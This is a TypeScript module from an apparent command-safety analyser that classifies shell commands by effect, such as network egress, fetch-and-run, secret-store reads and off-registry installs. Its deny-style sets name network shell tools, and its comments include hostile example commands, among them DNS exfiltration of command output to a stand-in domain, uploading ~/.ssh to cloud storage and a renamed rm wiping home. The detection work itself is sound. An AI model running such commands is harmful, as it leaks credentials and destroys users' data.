import type { NormalisedCommand } from '../normalised.schema';
import { flagValues, hasFlag, target, type CommandScope } from './effect-context';
import { write } from './file-effects';
import { isHistoryPath, isLogPath, isSecretPath, under } from './path-classes';

export const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'rbash', 'fish', 'csh', 'tcsh', 'busybox', 'source', '.']);
export const INTERPRETERS = /^(python[0-9.]*|pypy[0-9]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|deno|bun|php[0-9.]*|lua[0-9.]*|luajit|tclsh|osascript|Rscript|julia|pwsh|powershell)$/;
export const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'https', 'xh', 'lwp-request', 'GET', 'POST', 'axel']);
export const NETWORK = new Set([...DOWNLOADERS, 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ftp', 'sftp', 'scp', 'ssh', 'rsync', 'openssl',
  'nslookup', 'dig', 'host', 'drill', 'ping', 'tftp', 'smbclient', 'rclone', 'ncftp', 'websocat', 'wscat', 'mail', 'sendmail', 'mutt']);
const ENV_DUMPS = new Set(['env', 'printenv', 'set', 'export', 'declare', 'compgen']);
const ARCHIVERS = new Set(['tar', 'zip', '7z', 'gzip', 'bzip2', 'xz', 'zstd', 'cpio', 'rsync', 'cp', 'base64', 'xxd', 'gpg', 'openssl']);
const DUMPERS = /^(mysqldump|mariadb-dump|pg_dump|pg_dumpall|mongodump|mongoexport|bcp|exp|expdp)$/;
/** Programs that look a name up: data spelled into the name leaves through DNS. */
const RESOLVERS = new Set(['nslookup', 'dig', 'host', 'drill', 'ping', 'ping6', 'traceroute', 'resolvectl', 'getent']);
const SECRET_VARIABLE = /(key|token|secret|passw|credential|auth|cookie|session|private)/i;
const CONTAINER_CLIS = /^(docker|podman|nerdctl)$/;
const LOCAL_HOST = /^(https?:\/\/)?(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0|host\.docker\.internal)([:/]|$)/i;

export const isShell = (program: string) => SHELLS.has(program);
export const isInterpreter = (program: string) => INTERPRETERS.test(program);

/** What sensitive data the output of `command` carries, if any (`env`, `secret`, `home`, `system`). */
export function dataClassOf(scope: CommandScope): string | undefined {
  const { command } = scope;
  if (ENV_DUMPS.has(command.program) && command.positionals.length === 0 && !command.flags.some((f) => f === '-f' || f === '-F')) return 'env';
  if (command.program === 'cat' && command.positionals.some((arg) => /^\/proc\/[^/]+\/environ$/.test(arg))) return 'secret';
  // `ps eww` prints every process's environment; `docker inspect` a container's, secrets included.
  if (command.program === 'ps' && command.positionals.some((p) => /^[a-zA-Z]*e[a-zA-Z]*$/.test(p))) return 'env';
  if (CONTAINER_CLIS.test(command.program) && (command.subcommand === 'inspect' || (command.subcommand === 'container' && command.positionals[0] === 'inspect'))) return 'env';
  // `find /home -name '*.pem'`: the names it prints are keys (and `xargs cat` reads them).
  if (command.program === 'find' && flagValues(command, ['-name', '-iname', '-path', '-ipath', '-regex']).some((name) => {
    const sample = name.replace(/[*?]/g, 'x').replace(/^.*\//, '');
    return isSecretPath(`/home/u/.ssh/${sample}`) && !/^x*$/.test(sample) || isSecretPath(`/u/${sample}`);
  })) return 'secret';
  // Shell history holds what was typed, secrets included: reading it is ordinary, sending it is not.
  if ((command.program === 'history' || (command.program === 'fc' && command.flags.includes('-l'))) && !command.flags.some((f) => /^-[cdw]/.test(f))) return 'secret';
  // One pass over the command's effects (no intermediate lists: this runs for every command of a call).
  let tainted: string | undefined;
  let readsHome = false;
  let readsSystemFile = false;
  for (const e of scope.effects) {
    if (e.kind !== 'read') continue;
    if (e.class === 'secret' || e.class === 'history') return 'secret';
    tainted ||= e.target ? scope.line.tainted.get(e.target) : undefined;
    readsHome ||= e.class === 'home' || e.class === 'root';
    readsSystemFile ||= e.class === 'system' && /^\/etc\/(passwd|group|hosts)$/.test(e.target ?? '');
  }
  if (tainted) return tainted;
  if (ARCHIVERS.has(command.program) && readsHome) return 'home';
  // A database dump is the data itself: on its way to the network it is exfiltration, not a backup.
  if (DUMPERS.test(command.program) || (command.program === 'sqlite3' && command.positionals.some((p) => /^\.dump\b/.test(p)))) return 'database';
  if (readsSystemFile && command.program !== 'ls') return 'system';
  return undefined;
}

/** Network egress of one command and what flows into it. */
export function egressEffects(scope: CommandScope, upstream: readonly string[]): void {
  const { command } = scope;
  const remote = isRemote(command);
  if (!remote) return;
  const flows = new Set<string>(upstream);
  for (const file of uploadedFiles(command)) {
    const ref = scope.resolve(file);
    const taint = ref.path ? scope.line.tainted.get(ref.path) : undefined;
    if (taint) flows.add(taint);
    else if (isSecretPath(ref.path) || isHistoryPath(ref.path)) flows.add('secret');
    else if (ref.location === 'home' || ref.location === 'root') flows.add('home');
  }
  if (command.variables.some((name) => SECRET_VARIABLE.test(name))) flows.add('secret');
  const host = command.positionals.find((arg) => /[./:]/.test(arg)) ?? command.positionals[0];
  const local = host !== undefined && LOCAL_HOST.test(host) && flows.size === 0;
  // `ping $(whoami).x.example`, `curl https://$(hostname).x.example`: output of a command spelled into the name looked up.
  const names = RESOLVERS.has(command.program) ? command.positionals : command.positionals.map((arg) => /^(?:[a-z][\w+.-]*:\/\/)?([^/?#]*)/i.exec(arg)?.[1] ?? '');
  if (names.some((name) => name.includes('$(') || name.includes('`'))) flows.add('computed-name');
  // `curl -X DELETE https://api…/projects/prod`: a destructive verb on someone's API (local servers are the developer's own).
  const method = [...flagValues(command, ['--request', '-X', '--method']), ...(/^(http|https|xh)$/.test(command.program) ? command.positionals.slice(0, 1) : [])].map((m) => m.toUpperCase());
  if (method.some((m) => m === 'DELETE' || m === 'PURGE') && !(host !== undefined && LOCAL_HOST.test(host))) scope.add('destroy', 'remote-api', true, { ...(host ? { target: host.slice(0, 200) } : {}), detail: `HTTP ${method.join(',')} to a remote service` });
  if (flows.size === 0) scope.add('egress', local ? 'local' : 'plain', false, host ? { target: host.slice(0, 200) } : {});
  for (const flow of flows) scope.add('egress', flow, true, host ? { target: host.slice(0, 200), via: 'pipe' } : { via: 'pipe' });
}

/** Object-store clients that copy local files up (`aws s3 cp ~/.ssh s3://…`, `gsutil cp`, `rclone copy ~ remote:`). */
const CLOUD_COPY = /^(aws|gsutil|s3cmd|azcopy|gcloud|rclone|mc|b2)$/;
const CLOUD_COPY_VERBS = /^(cp|sync|mv|put|copy|copyto|move|moveto|rsync|upload)$/;

function cloudUpload(command: NormalisedCommand): boolean {
  return CLOUD_COPY.test(command.program) && [command.subcommand, ...command.positionals.slice(0, 3)].some((word) => word !== undefined && CLOUD_COPY_VERBS.test(word));
}

function isRemote(command: NormalisedCommand): boolean {
  if (cloudUpload(command)) return true;
  if (!NETWORK.has(command.program)) return false;
  if (command.program === 'rsync' || command.program === 'scp') return command.positionals.some((arg) => /^[^/]*:/.test(arg));
  if (command.program === 'openssl') return command.subcommand === 's_client' || command.positionals[0] === 's_client';
  return true;
}

function uploadedFiles(command: NormalisedCommand): string[] {
  const values = flagValues(command, ['--data', '--data-binary', '--data-raw', '--data-urlencode', '--data-ascii', '--form', '--upload-file', '--json', '-T', '--post-file', '--body-file']);
  const files = values.flatMap((value) => {
    const at = value.indexOf('@');
    return at >= 0 ? [value.slice(at + 1).replace(/;.*$/, '')] : [];
  }).filter((file) => file !== '-' && file !== '');
  files.push(...flagValues(command, ['--upload-file', '--post-file', '--body-file', '-T']));
  if (command.program === 'socat') for (const arg of command.positionals) {
    const file = /^(?:FILE|OPEN|GOPEN|CREATE|READ):([^,]+)/i.exec(arg)?.[1];
    if (file) files.push(file);
  }
  if (cloudUpload(command)) files.push(...command.positionals.filter((arg) => /^[/~.]/.test(arg) || /^[\w.-]+\//.test(arg) && !/^[\w.-]+:/.test(arg)));
  if (command.program === 'scp' || command.program === 'rsync') files.push(...command.positionals.slice(0, -1).filter((arg) => !/^[^/]*:/.test(arg)));
  for (const redirect of command.redirects) if (redirect.op === '<') files.push(redirect.target);
  return files;
}

function someIn(set: ReadonlySet<string>, test: (value: string) => boolean): boolean {
  for (const value of set) if (test(value)) return true;
  return false;
}

const URL_RUNNERS = /^(deno|bun|bunx|npx|pnpx)$/;

/** Execution: of something fetched or written earlier in the line, of stdin, of a socket. */
export function execEffects(scope: CommandScope): void {
  const { command, line } = scope;
  const program = command.program;
  const runner = isShell(program) || isInterpreter(program);
  if (runner && command.pipedFrom.some((from) => NETWORK.has(from))) scope.add('exec', 'fetched', true, { via: 'pipe', detail: `input from ${command.pipedFrom.filter((from) => NETWORK.has(from)).join(', ')}` });
  if (isShell(program) && !command.flags.some((f) => f.startsWith('-c')) && command.pipedTo.some((to) => NETWORK.has(to))) scope.add('exec', 'remote', true, { detail: 'shell output goes to the network' });
  if (DOWNLOADERS.has(program) && command.pipedTo.some((to) => isShell(to) || isInterpreter(to))) scope.add('exec', 'fetched', true, { via: 'pipe' });
  // The file run is checked only against what the line fetched, wrote or scripted earlier: with none of those (most lines), resolving it would be spent for nothing.
  const earlier = line.fetched.size > 0 || line.written.size > 0 || line.scripts.size > 0;
  const script = runner ? command.positionals[0] : command.programPath ?? (program.includes('/') ? program : undefined);
  const fromFile = runner ? command.redirects.find((r) => r.op === '<')?.target : undefined;
  const candidates = earlier ? [script, command.programPath, `./${program}`, fromFile].filter((x): x is string => x !== undefined) : [];
  for (const candidate of candidates) {
    const ref = scope.resolve(candidate);
    if (!ref.path) continue;
    const path = ref.path;
    const fetched = line.fetched.has(path) || someIn(line.fetched, (dir) => under(path, dir));
    if (fetched) scope.add('exec', 'fetched', true, { ...target(ref), via: 'file' });
    else if (line.written.has(path)) scope.add('exec', 'written', true, { ...target(ref), via: 'file' });
    const text = line.scripts.get(path);
    if (text !== undefined && line.analyse) line.analyse(text, scope, 'written-script');
  }
  if (!program.includes('/') && line.fetched.size > 0 && someIn(line.fetched, (path) => path.endsWith(`/${program}`))) scope.add('exec', 'fetched', true, { via: 'file', detail: `${program} was downloaded earlier in the line` });
  if (program === 'tar' && command.pipedFrom.some((from) => NETWORK.has(from))) for (const dir of flagValues(command, ['-C', '--directory']).concat(command.cwd ? [] : [])) {
    const ref = scope.resolve(dir);
    if (ref.path) line.fetched.add(ref.path);
  }
  if (DOWNLOADERS.has(program)) recordDownload(scope);
  // `deno run -A https://…`, `npx https://…/pkg.tgz`, `bun x https://…`: code fetched and run in one step.
  if (URL_RUNNERS.test(program) && command.positionals.slice(0, 2).some((p) => /^https?:\/\//i.test(p))) scope.add('exec', 'fetched', true, { via: 'url', detail: `${program} runs code from a URL` });
  if (program === 'ln' && hasFlag(command, ['--symbolic', '-s'])) recordLink(scope);
  if (program === 'mv') recordMove(scope);
  envDumpEffects(scope);
  secretToolEffects(scope);
  gitRemoteEffects(scope);
  imagePushEffects(scope);
  offRegistryInstall(scope);
  embeddedShell(scope);
  copiedProgram(scope);
}

/** `cp /bin/rm /tmp/del && /tmp/del -rf ~`: a system program copied under another name runs unrecognised; it counts as written. */
function copiedProgram(scope: CommandScope): void {
  const { command } = scope;
  if (!/^(cp|install|ln|rsync)$/.test(command.program) || command.positionals.length < 2) return;
  const sources = command.positionals.slice(0, -1).map((p) => scope.resolve(p).path ?? '');
  if (!sources.some((path) => /^\/(usr\/)?(local\/)?s?bin\/|^\/bin\//.test(path))) return;
  const dest = scope.resolve(command.positionals[command.positionals.length - 1] ?? '');
  if (dest.path) scope.line.written.add(dest.path);
}

const VIM = /^(vim?|nvim|view|ex|gvim)$/;
const PAGERS = /^(less|more|man)$/;
const MAKE = /^(make|gmake)$/;
const makefilesOf = (command: NormalisedCommand): string[] => [...flagValues(command, ['-f', '--file', '--makefile']), ...(command.flags.includes('-f') ? command.positionals : [])];

/**
 * Shell text handed to a program that runs it: `ssh -o ProxyCommand=…`, `vim -c ':!…'`, `less +'!…'`,
 * `tar --to-command=…`/`--checkpoint-action=exec=…`/`--use-compress-program=…`, `make -f /dev/stdin`.
 */
function embeddedShell(scope: CommandScope): void {
  const { command, line } = scope;
  const scripts: string[] = [];
  if (command.program === 'ssh' || command.program === 'scp' || command.program === 'sftp') {
    for (const option of [...flagValues(command, ['-o']), ...command.positionals.filter((p) => /^(ProxyCommand|LocalCommand|KnownHostsCommand)=/i.test(p))]) {
      const m = /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)[= ]\s*(.+)$/i.exec(option);
      if (m?.[1] && !/^none$/i.test(m[1])) scripts.push(m[1]);
    }
  }
  if (VIM.test(command.program)) {
    // The flag parser does not know vim's `-c` takes a value: the commands are among the operands.
    for (const c of [...flagValues(command, ['-c', '--cmd']), ...command.args, ...command.positionals]) {
      const m = /^\+?:?\s*!(.+)$/.exec(c) ?? /^\+?:?\s*(?:silent\s+)?!?(?:call\s+)?system\(\s*['"](.+)['"]\s*\)/.exec(c);
      if (m?.[1]) scripts.push(m[1]);
    }
  }
  if (PAGERS.test(command.program)) for (const a of command.args) {
    const m = /^\+!(.+)$/.exec(a);
    if (m?.[1]) scripts.push(m[1]);
  }
  if (command.program === 'tar') {
    scripts.push(...flagValues(command, ['--to-command', '--use-compress-program', '-I', '--info-script', '--new-volume-script', '-F', '--rsh-command']));
    for (const action of flagValues(command, ['--checkpoint-action'])) if (action.startsWith('exec=')) scripts.push(action.slice(5));
  }
  if (MAKE.test(command.program) && makefilesOf(command).some((f) => f === '-' || f === '/dev/stdin' || f === '/proc/self/fd/0' || f.startsWith('/dev/fd/'))) {
    scope.add('exec', 'stdin', true, { detail: 'make reads its recipes from stdin' });
  }
  for (const script of scripts) {
    if (line.analyse) line.analyse(script, scope, 'embedded-shell');
    else scope.add('exec', 'opaque', true, { detail: 'shell text run by another program' });
  }
}

const PIP = /^(pip[0-9.]*|uv|pipx|poetry)$/;
const PYTHON = /^python[0-9.]*$/;
const NODE_INSTALLERS = /^(npm|pnpm|yarn|bun)$/;
const INSTALL_VERBS = /^(install|i|add|update|upgrade)$/;

/**
 * `pip install https://…/pkg.tar.gz`, `pip install -i http://203.0.113.9/simple x`, `npm i git+https://…`:
 * a package from outside the registry runs its install code unreviewed. Registry installs stay allowed.
 */
function offRegistryInstall(scope: CommandScope): void {
  const { command } = scope;
  const pip = PIP.test(command.program) || (PYTHON.test(command.program) && flagValues(command, ['-m']).some((m) => m === 'pip'));
  const node = NODE_INSTALLERS.test(command.program);
  if (!pip && !node) return;
  const words = [command.subcommand ?? '', ...command.positionals];
  if (!words.slice(0, 3).some((word) => INSTALL_VERBS.test(word))) return;
  const url = command.positionals.find((p) => /^(https?:|git\+|git:|ssh:|file:\/\/\/(?!code))/i.test(p));
  const index = flagValues(command, ['--index-url', '-i', '--extra-index-url', '--registry', '--trusted-host', '-f', '--find-links']).find((value) => !/^https:\/\/(pypi\.org|registry\.npmjs\.org|registry\.yarnpkg\.com)\b/.test(value));
  const from = url ?? index;
  if (from !== undefined) scope.add('exec', 'off-registry', true, { target: from.slice(0, 200), detail: 'installs a package from outside the registry (its install code runs)' });
}

/** A git remote spelled as a URL or scp-like address rather than a configured name. */
const GIT_URL = /^([a-z][\w+.-]*:\/\/|[^\s/:@]+@[^\s/:]+:|[\w.-]+\.[a-z]{2,}:)/i;

/**
 * `git remote add x URL && git push x --all`, `git push https://host/r.git main`: the repository
 * (its whole history, with any secret ever committed) goes to a remote no one configured before
 * this line. Pushes to configured remotes by name stay ordinary.
 */
function gitRemoteEffects(scope: CommandScope): void {
  const { command } = scope;
  if (command.program !== 'git') return;
  const [verb, name, url] = command.positionals;
  if (command.subcommand === 'remote' && (verb === 'add' || verb === 'set-url') && name !== undefined && url !== undefined) {
    scope.line.remotes.add(name);
    return;
  }
  if (command.subcommand !== 'push') return;
  const remote = flagValues(command, ['--repo'])[0] ?? command.positionals[0];
  if (remote === undefined || !(GIT_URL.test(remote) || scope.line.remotes.has(remote))) return;
  scope.add('egress', 'repository', true, { target: remote.slice(0, 200), detail: 'pushes the repository to a remote not configured before this line' });
}

/** A registry on this machine: `localhost:5000/app`, `127.0.0.1:5000/app`, `registry.localhost/app`. */
const LOCAL_REGISTRY = /^(localhost|127(\.\d{1,3}){3}|\[::1\]|[\w.-]+\.(localhost|local))(:\d+)?$/i;

const IMAGE_BUILDERS = /^(docker|podman|nerdctl|buildah)$/;

/**
 * `docker push registry.example/app`, `podman push app docker://host/app`, `docker buildx build --push -t host/app .`:
 * an image (the workspace built into it) goes to a registry off this machine; a registry on
 * localhost stays ordinary.
 */
function imagePushEffects(scope: CommandScope): void {
  const { command } = scope;
  if (!IMAGE_BUILDERS.test(command.program)) return;
  const sub = command.subcommand ?? '';
  const pos = command.positionals;
  let images: string[] = [];
  if (sub === 'push') images = command.program === 'docker' || command.program === 'nerdctl' ? pos.slice(0, 1) : pos.slice(pos.length > 1 ? 1 : 0, pos.length > 1 ? 2 : 1);
  else if (sub === 'image' && pos[0] === 'push') images = pos.slice(1, 2);
  // `-t` is canonicalised as docker's `--tty`, so the tags are read from the line as written.
  else if ((sub === 'buildx' || sub === 'build' || sub === 'builder') && /(^|\s)--push\b|push=true/.test(command.args.join(' '))) images = [...scope.source.matchAll(/(?:^|\s)(?:-t|--tag)(?:=|\s+)(\S+)/g)].map((match) => match[1] ?? '');
  const remote = images.find((image) => !LOCAL_REGISTRY.test(registryOf(image)));
  if (remote === undefined) return;
  scope.add('egress', 'image', true, { target: remote.slice(0, 200), detail: 'pushes an image to a registry off this machine' });
}

/** The registry host of an image reference (Docker Hub when the first part names none). */
function registryOf(image: string): string {
  const ref = image.replace(/^[a-z-]+:\/\//, '');
  const first = ref.split('/')[0] ?? '';
  return ref.includes('/') && (/[.:]/.test(first) || first === 'localhost') ? first : 'docker.io';
}

/** `mv ~/.config/app /tmp/x && rm -rf /tmp/x`: what was moved is deleted where it came from. */
function recordMove(scope: CommandScope): void {
  const positionals = scope.command.positionals;
  if (positionals.length !== 2) return;
  const source = scope.resolve(positionals[0] ?? '');
  const dest = scope.resolve(positionals[1] ?? '');
  if (source.path && dest.path && source.location !== 'workspace' && source.location !== 'tmp') scope.line.links.set(dest.path, source.path);
  // `mv ~ /tmp/trash`: the home directory, the root or a system directory is gone from where everything expects it.
  const home = scope.env.homeDir.replace(/\/+$/, '');
  if (source.path && (source.path === home || /^\/(home|root|etc|usr|bin|sbin|lib|lib64|boot|var|opt)?\/?$/.test(source.path))) scope.add('destroy', 'home', true, { target: source.path, detail: 'moves a home, root or system directory away' });
}

/** The whole environment printed: into the agent's context, a filter for secrets, a file or the network. */
function envDumpEffects(scope: CommandScope): void {
  const { command } = scope;
  if (!ENV_DUMPS.has(command.program) || command.positionals.length > 0 || command.program === 'declare' && !command.flags.some((f) => /^-[px]/.test(f))) return;
  if (command.program === 'export' && !command.flags.includes('-p')) return;
  if (command.program === 'set' && command.args.length > 0) return;
  const filteredForSecrets = /(token|secret|key|passw|cred|auth|aws|api)/i.test(scope.source) && command.pipedTo.some((to) => /^(grep|egrep|rg|awk|sed)$/.test(to));
  const printed = command.pipedTo.length === 0 && command.redirects.length === 0;
  scope.add('read', 'env', filteredForSecrets || printed, { detail: 'the whole environment' });
}

const SECRET_TOOLS: readonly [RegExp, RegExp][] = [
  [/^gpg2?$/, /--export-secret-(sub)?keys|--export-ownertrust/],
  [/^security$/, /find-(generic|internet)-password.*-[gw]\b|dump-keychain/],
  [/^(pass|gopass)$/, /^(show|cat)?\b/],
  [/^vault$/, /\b(kv\s+get|read|token\s+create|print\s+token)\b/],
  [/^kubectl$/, /\bget\s+secrets?\b.*(-o|--output)|\bget\s+secrets?\/|describe\s+secrets?|\bcreate\s+token\b/],
  [/^aws$/, /secretsmanager\s+get-secret-value|ssm\s+get-parameters?.*--with-decryption|sts\s+get-session-token|configure\s+(get|export-credentials)|ecr\s+get-login-password/],
  [/^gcloud$/, /auth\s+(print-access-token|print-identity-token|application-default\s+print-access-token)|secrets\s+versions\s+access/],
  [/^az$/, /account\s+get-access-token|keyvault\s+secret\s+show/],
  [/^gh$/, /auth\s+(token|status\s+.*--show-token)/],
  [/^(op|bw|lpass|keepassxc-cli)$/, /\b(read|get|show|item\s+get|export)\b/],
  [/^(heroku|doctl|flyctl|fly)$/, /\b(config|auth:token|auth\s+token|secrets\s+list)\b/],
  [/^docker$/, /\bsecret\s+inspect\b/],
  [/^(printenv|env|echo|printf)$/, /\b(AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|NPM_TOKEN|DATABASE_URL|\w*_(TOKEN|SECRET|PASSWORD|API_KEY|PRIVATE_KEY))\b/],
];

/** Secret stores read through their own client (`gpg --export-secret-keys`, `kubectl get secret -o yaml`, …). */
function secretToolEffects(scope: CommandScope): void {
  const { command } = scope;
  if (command.program === 'kubectl' && kubectlSecretRead(command)) {
    scope.add('read', 'secret', true, { detail: 'secret store read through kubectl' });
    return;
  }
  if (!SECRET_TOOLS.some(([program]) => program.test(command.program))) return;
  const args = [command.subcommand ?? '', command.args.join(' '), command.program === 'echo' || command.program === 'printf' ? command.variables.join(' ') : ''].join(' ');
  const hit = SECRET_TOOLS.find(([program, pattern]) => program.test(command.program) && pattern.test(args));
  if (!hit) return;
  const printedOnly = command.program === 'echo' || command.program === 'printf' || command.program === 'printenv' || command.program === 'env';
  scope.add('read', 'secret', !printedOnly || command.pipedTo.length > 0 || command.redirects.length > 0 || command.program === 'printenv', { detail: `secret store read through ${command.program}` });
}

/** `kubectl get secret db -o jsonpath=…`, `kubectl get secrets,cm -o yaml`: the values come out, whatever the flag order. */
function kubectlSecretRead(command: NormalisedCommand): boolean {
  if (command.subcommand !== 'get' || !hasFlag(command, ['-o', '--output'])) return false;
  return command.positionals.some((p) => p.split(',').some((kind) => /^secrets?(\/|$)/i.test(kind)));
}

const PHP = /^php[0-9.]*$/;
const RUBY = /^ruby[0-9.]*$/;
const FILE_SERVERS = /^(http-server|serve|live-server|updog|miniserve|darkhttpd)$/;

/** `python3 -m http.server --directory ~`, `php -S 0.0.0.0:80 -t /`: a file server on home or the system hands it to the network. */
export function fileServerEffects(scope: CommandScope): void {
  const { command } = scope;
  const python = PYTHON.test(command.program) && flagValues(command, ['-m']).some((m) => /^(http\.server|SimpleHTTPServer|uploadserver|RangeHTTPServer)$/.test(m));
  const php = PHP.test(command.program) && hasFlag(command, ['-S']);
  const other = FILE_SERVERS.test(command.program) || (command.program === 'busybox' && command.positionals[0] === 'httpd') || (RUBY.test(command.program) && /-run\b.*httpd|httpd\b/.test(command.args.join(' ')));
  if (!python && !php && !other) return;
  const dirs = [...flagValues(command, ['--directory', '-d', '-t', '--dir', '--root']), ...command.positionals.filter((p) => !/^\d+$/.test(p) && p !== 'httpd' && !/^[\w.-]*:\d+$/.test(p))];
  for (const dir of dirs.length > 0 ? dirs : ['.']) {
    const ref = scope.resolve(dir);
    if (ref.location === 'home' || ref.location === 'root' || ref.location === 'system' || ref.location === 'proc') scope.add('egress', 'home', true, { ...target(ref), via: 'server', detail: 'serves files outside the workspace to the network' });
  }
}

function recordDownload(scope: CommandScope): void {
  const { command } = scope;
  const outputs = flagValues(scope.command, ['--output', '--output-document', '-O']);
  if ((command.program === 'wget' || command.program === 'aria2c' || command.program === 'axel') && outputs.length === 0) {
    const url = command.positionals.find((arg) => /:\/\//.test(arg));
    const name = url?.split(/[?#]/)[0]?.split('/').pop();
    if (name) outputs.push(name);
  }
  if (hasFlag(command, ['--remote-name', '-O']) && command.program === 'curl') {
    const name = command.positionals.find((arg) => /:\/\//.test(arg))?.split(/[?#]/)[0]?.split('/').pop();
    if (name) outputs.push(name);
  }
  for (const redirect of command.redirects) if (redirect.op === '>' || redirect.op === '>>' || redirect.op === '>|') outputs.push(redirect.target);
  for (const output of outputs) write(scope, output, 'fetched');
}

function recordLink(scope: CommandScope): void {
  const [from, to] = scope.command.positionals.slice(-2);
  if (from === undefined || to === undefined) return;
  const source = scope.resolve(from);
  const link = scope.command.positionals.length === 1 ? scope.resolve(`./${from.split('/').pop() ?? ''}`) : scope.resolve(to);
  if (!link.path) return;
  if (isHistoryPath(link.path) || isLogPath(link.path)) scope.add('system', 'tracks', true, { target: link.path, detail: 'history or log replaced by a link' });
  else write(scope, to);
  if (source.path) scope.line.links.set(link.path, source.path);
}
